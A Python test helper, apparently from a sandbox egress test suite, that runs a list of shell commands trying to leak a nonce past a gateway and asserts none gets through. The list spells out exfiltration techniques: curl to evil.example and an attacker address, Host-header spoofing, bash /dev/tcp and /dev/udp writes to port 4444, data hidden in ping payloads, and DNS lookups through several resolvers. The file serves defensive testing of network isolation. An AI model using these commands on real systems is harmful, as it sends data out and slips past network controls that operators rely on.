"""Ways by which a client behind a gateway might get a word out, for every kind of deployment."""
from __future__ import annotations

from typing import Callable, Iterable

from world import names
from world.fake_internet import FakeInternet

WAYS = {  # shell commands; {host} is the address of the machine on which the client runs
    "another host": "curl -sS -m 5 https://{nonce}.evil.example/{nonce}",
    "another path's method": "curl -sS -m 5 -X PUT -d {nonce} https://files.example/{nonce}",
    "an address": "curl -sS -m 5 http://" + names.ATTACKER + "/{nonce}",
    "an address with an allowed name": "curl -sS -m 5 -H 'Host: files.example' http://" + names.ATTACKER + "/{nonce}",
    "a raw port": "bash -c 'echo {nonce} > /dev/tcp/" + names.ATTACKER + "/4444'",
    "UDP": "bash -c 'echo {nonce} > /dev/udp/" + names.ATTACKER + "/4444'",
    "ping": "ping -c1 -W1 -p $(echo {nonce} | od -An -tx1 | tr -d ' \\n' | cut -c1-32) " + names.ATTACKER,
    "the host's address": "curl -sS -m 5 http://{host}:8000/{nonce}",
    "a name": "getent hosts {nonce}.evil.example",
    "Docker's resolver": "dig +time=2 +tries=1 @127.0.0.11 {nonce}.evil.example",
    "another resolver": "dig +time=2 +tries=1 @" + names.DNS + " {nonce}.evil.example",
    "another resolver over TCP": "dig +tcp +time=2 +tries=1 @" + names.DNS + " {nonce}.evil.example",
}


def attempt(world: FakeInternet, run: Callable[[str], object], ways: Iterable[str], nonce: str, host: str = "") -> None:
    """Runs each of the ways; nothing of the nonce is seen anywhere."""
    for way in ways:
        run(WAYS[way].format(nonce=nonce, host=host))
    assert world.traces(nonce) == []
